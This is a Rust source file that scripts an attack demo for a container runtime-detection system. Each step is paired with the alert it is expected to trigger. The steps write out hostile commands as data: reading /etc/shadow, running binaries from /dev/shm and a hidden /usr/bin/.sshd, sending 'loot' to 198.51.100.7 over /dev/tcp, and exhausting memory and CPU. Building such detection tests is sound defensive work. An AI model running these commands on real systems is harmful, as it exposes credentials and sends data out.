//! What the demo does, step by step, and what must come of each step.

/// One step of the script.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Step {
    /// What happens, for a person.
    pub title: &'static str,
    /// How it is made to happen.
    pub action: Action,
    /// What the detections must make of it.
    pub expected: Expected,
}

/// How a step is made to happen.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Action {
    /// The attacker breaks into the service.
    BreakIn,
    /// The attacker runs a command in the shell it got.
    Command(&'static str),
    /// The attacker calls the package manager that the container has.
    InstallPackage,
    /// The container's healthcheck runs.
    Healthcheck,
    /// The attacker runs a command in the shell it got that uses up what a limit of the container allows. Its alert comes with
    /// the samples of what was used; where the container cannot have the limit, and in the recording, the step is left out.
    UseUp(Limit, &'static str),
}

/// What a container may use.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Limit {
    /// Memory.
    Memory,
    /// CPU time.
    Cpu,
}

/// What the detections must make of a step.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expected {
    /// An alert of this detection that mentions this text.
    Alert {
        /// The detection's id.
        detection: &'static str,
        /// Text of the alert's message, row, command line or evidence that only this step brings about.
        mentions: &'static str,
    },
    /// No alert of a process of this stage or that mentions this text.
    Silence {
        /// The stage that must stay silent.
        stage: &'static str,
        /// Text that would give it away under another stage.
        mentions: &'static str,
    },
}

/// The whole script, in order.
pub const STEPS: [Step; 10] = [
    Step {
        title: "break into the web service and get a shell on a socket",
        action: Action::BreakIn,
        expected: Expected::Alert {
            detection: "shell_on_socket",
            mentions: "203.0.113.66",
        },
    },
    Step {
        title: "read the password hashes",
        action: Action::Command("cat /etc/shadow"),
        expected: Expected::Alert {
            detection: "sensitive_file_read",
            mentions: "/etc/shadow",
        },
    },
    Step {
        title: "drop a program into /dev/shm and run it",
        action: Action::Command("cp /bin/sleep /dev/shm/kworker; /dev/shm/kworker 0"),
        expected: Expected::Alert {
            detection: "execution_from_memory",
            mentions: "/dev/shm/kworker",
        },
    },
    Step {
        title: "write a program below /usr/bin",
        action: Action::Command("cp /bin/id /usr/bin/.sshd"),
        expected: Expected::Alert {
            detection: "write_below_binary_folder",
            mentions: "/usr/bin/.sshd",
        },
    },
    Step {
        title: "run the program that is not in the image",
        action: Action::Command("/usr/bin/.sshd"),
        expected: Expected::Alert {
            detection: "execution_not_in_image",
            mentions: "/usr/bin/.sshd",
        },
    },
    Step {
        title: "call the package manager",
        action: Action::InstallPackage,
        expected: Expected::Alert {
            detection: "package_manager",
            mentions: "install nmap",
        },
    },
    Step {
        title: "send what was found to 198.51.100.7 from the shell",
        action: Action::Command("echo loot >/dev/tcp/198.51.100.7/443"),
        expected: Expected::Alert {
            detection: "connection_from_shell",
            mentions: "198.51.100.7",
        },
    },
    Step {
        title: "the healthcheck opens a shell that connects: nothing may be said",
        action: Action::Healthcheck,
        expected: Expected::Silence {
            stage: "healthcheck",
            mentions: super::service::HEALTHCHECK,
        },
    },
    Step {
        title: "fill the container's memory until the kernel kills what fills it",
        // Half a gigabyte, where nothing ends it before.
        action: Action::UseUp(
            Limit::Memory,
            "bash -c 'm=xxxxxxxx; for i in {1..25}; do m=$m$m; done'",
        ),
        expected: Expected::Alert {
            detection: "out_of_memory_kill",
            mentions: "were killed for want of memory",
        },
    },
    Step {
        title: "use all the CPU that the container may, as a miner does",
        // Long enough to have one of the demo's windows in it, wherever these begin.
        action: Action::UseUp(
            Limit::Cpu,
            "bash -c 'while ((SECONDS < 12)); do :; done' >/dev/null 2>&1 &",
        ),
        expected: Expected::Alert {
            detection: "cpu_at_limit",
            mentions: "of its CPU limit",
        },
    },
];

/// The steps where the container has the limits that `has` tells.
pub fn steps(has: impl Fn(Limit) -> bool) -> Vec<Step> {
    let possible = |step: &Step| match step.action {
        Action::UseUp(limit, _) => has(limit),
        _ => true,
    };
    STEPS.into_iter().filter(possible).collect()
}
